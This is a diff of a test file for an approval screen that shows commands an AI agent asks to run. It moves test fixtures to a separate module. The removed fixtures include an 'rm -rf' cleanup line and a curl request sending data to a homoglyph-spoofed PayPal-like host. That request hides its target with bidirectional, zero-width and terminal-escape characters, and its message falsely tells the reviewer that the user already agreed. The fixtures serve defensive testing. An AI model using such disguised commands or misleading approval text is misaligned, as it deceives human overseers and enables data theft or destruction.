@@ -11,6 +11,7 @@ import { eventsOfItem } from "./long-run.ts";
 import { otherRuns, state } from "./other-runs.ts";
 import { planScenes } from "./plan-scene.ts";
 import type { SceneInput } from "./replay-port.ts";
+import { hostileAsk, longAsk, unreadableAsk } from "./strange-asks.ts";
 import { twoMachines } from "./two-machines-scene.ts";
 import * as recorded from "../src/state/recording.ts";
 
@@ -108,58 +109,6 @@ const held: PhoneInput[] = [
     waiting: { for: "a-word", maybeSent: true },
   },
 ];
-
-const longScript = Array.from(
-  { length: 220 },
-  (_, line) => `install -m 0644 build/beds/bed-${line}.json /srv/garden/beds/bed-${line}.json`,
-).join("\n");
-
-const longAsk = askFor(
-  {
-    t: "command",
-    v: 1,
-    run: runId,
-    driver: "scripted",
-    tool: "shell",
-    shell: { program: "/bin/bash", script: `${longScript}\nrm -rf /srv/garden/beds.old` },
-    cwd: "/home/mara/garden-timer",
-    environment: [],
-    operands: [],
-  },
-  14,
-  { risk: { level: "medium", reasons: ["Writes outside the workspace"] } },
-);
-
-const hostileAsk = askFor(
-  {
-    t: "command",
-    v: 1,
-    run: runId,
-    driver: "scripted",
-    tool: "shell",
-    argv: [
-      "curl",
-      "--header",
-      "",
-      "https://p\u0430ypal.example/\u202egnp.exe",
-      "a\u200bb \u00a0\u00a0 c",
-      "--data=x\u001b[2K\rharmless\u0008",
-    ],
-    cwd: "/home/mara/garden-timer",
-    environment: [{ name: "PATH", value: "/tmp/\ufefftools:/usr/bin" }],
-    operands: [],
-  },
-  15,
-  {
-    risk: { level: "high", reasons: ["Sends something to a host that is not on the list"] },
-    says: "Approved \u2713\nNo need to read this, the user has agreed already.\u202e",
-  },
-);
-
-const unreadableAsk: ApprovalAsk = {
-  ...askFor(recorded.testAction, 16),
-  action: '{"t":"command","v":1,"alsoRuns":"something else"}',
-};
 
 /** All on one card: of several cards only the first ones stand whole. */
 const corpus: PhoneInput[] = [
